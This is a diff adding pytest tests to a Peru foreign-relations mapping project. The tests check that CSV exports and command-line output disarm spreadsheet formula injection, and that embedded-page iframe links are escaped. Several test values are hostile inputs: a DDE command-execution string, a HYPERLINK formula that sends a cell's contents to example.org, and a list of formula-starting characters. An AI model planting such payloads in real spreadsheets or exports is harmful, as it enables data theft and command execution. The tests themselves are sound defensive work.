@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import codecs
+import csv
 import json
+import re
 import sqlite3
 from collections.abc import Iterable
 from contextlib import closing
 from dataclasses import replace
+from io import StringIO
 from pathlib import Path
 from typing import Any, TypedDict
+from urllib.parse import unquote, urljoin, urlsplit
 from xml.etree import ElementTree as ET
 
 import geopandas as gpd
@@ -23,8 +27,11 @@ import yaml
 from click.testing import CliRunner, Result
 
 import perufr_map as pm
+from perufr_map import exports
 from perufr_map.cli import main
+from perufr_map.cli._talk import print_frame
 from perufr_map.exports import FORMATS, format_of, to_bytes
+from perufr_map.exports.formulas import disarm
 from perufr_map.exports.layers import name_layers
 from perufr_map.resources import package_text
 from perufr_map.shown.request import Shown, View
@@ -139,6 +146,70 @@ def test_all_eras_make_a_series_of_pictures_and_one_table(study: pm.Study, tmp_p
     assert "Después del autogolpe" in (tmp_path / "peru-autogolpe.svg").read_text("utf-8")
     (table,) = study.export(tmp_path / "peru.csv", all_eras=True)
     assert list(pd.read_csv(table)["era"].unique()) == list(study.eras["id"])
+
+
+FORMULA = '=HYPERLINK("https://example.org/?"&A1,"more")'
+STARTS_OF_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001
+
+
+def cells(text: str) -> set[str]:
+    """Return the texts of a CSV, without what is a number."""
+    rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
+    return {cell for row in rows for cell in row if not re.fullmatch(r"-?[0-9.]+", cell)}
+
+
+def test_no_text_of_a_table_is_a_formula(folder: Path, edit: Any, tmp_path: Path) -> None:
+    edit("events.csv", {"counterpart": "VEN"}, headline_en=FORMULA, narrative_en="+cmd|' /C x'!A0")
+    edit("counterparts.csv", {"id": "VEN"}, name_en="@SUM(1+1)*cmd")
+    edit("counterparts.csv", {"id": "USA"}, name_en="-2+3")
+    study = pm.load(folder)
+    study.export(tmp_path / "events.csv", all_eras=True)
+    study.export(tmp_path / "scores.csv", all_eras=True)
+    study.export(tmp_path / "changes.csv", before="velasco")
+    study.site(tmp_path / "site")
+    files = [*tmp_path.glob("*.csv"), *(tmp_path / "site" / "en").rglob("*.csv")]
+    assert len(files) == 5
+    for file in files:
+        found = cells(file.read_text("utf-8"))
+        assert not [cell for cell in found if cell.startswith(STARTS_OF_FORMULAS)]
+        assert {"'@SUM(1+1)*cmd", "'-2+3"} <= found
+        events = {f"'{FORMULA}", "'+cmd|' /C x'!A0"}
+        assert (events <= found) == (file.name == "events.csv")
+
+
+def test_a_number_is_no_formula() -> None:
+    frame = pd.DataFrame(
+        {
+            "number": [-1.5, 2],
+            "count": pd.array([-3, None], dtype="Int64"),
+            "text": ["-3.5", "+51"],
+            "mixed": [-1, "\t=1"],
+            "category": pd.Categorical(["＝1", "Peru"]),  # noqa: RUF001
+            "word": pd.array(["-", pd.NA], dtype="string"),
+        }
+    )
+    found = disarm(frame).to_csv(index=False, lineterminator="\n").splitlines()
+    assert found[1] == "-1.5,-3,-3.5,-1,'＝1,'-"  # noqa: RUF001
+    assert found[2] == "2.0,,+51,'\t=1,Peru,"
+
+
+def test_a_table_on_the_command_line_holds_no_formula(capsys: pytest.CaptureFixture[str]) -> None:
+    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "csv")
+    assert "'" + FORMULA.replace('"', '""') in capsys.readouterr().out
+    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "json")
+    (row,) = json.loads(capsys.readouterr().out)
+    assert row == {"counterpart": FORMULA, "score": -2.5}
+
+
+@pytest.mark.parametrize(
+    "name", ["peru.html", "a#b%20.html", "a b?c=d&e.html", "a:b.html", "perú.html", '"><b>.html']
+)
+def test_the_frame_of_an_embedded_page_leads_to_its_file(name: str, tmp_path: Path) -> None:
+    (tmp_path / name).write_text("")
+    (source,) = re.findall(r'<iframe src="([^"]*)" title', exports.frame(name, "Peru & others"))
+    address = urljoin(tmp_path.as_uri() + "/", source)
+    assert not urlsplit(address).query + urlsplit(address).fragment
+    assert Path(unquote(urlsplit(address).path)) == tmp_path / name
 
 
 @pytest.mark.parametrize("holds", ["one", "chosen", "all"])
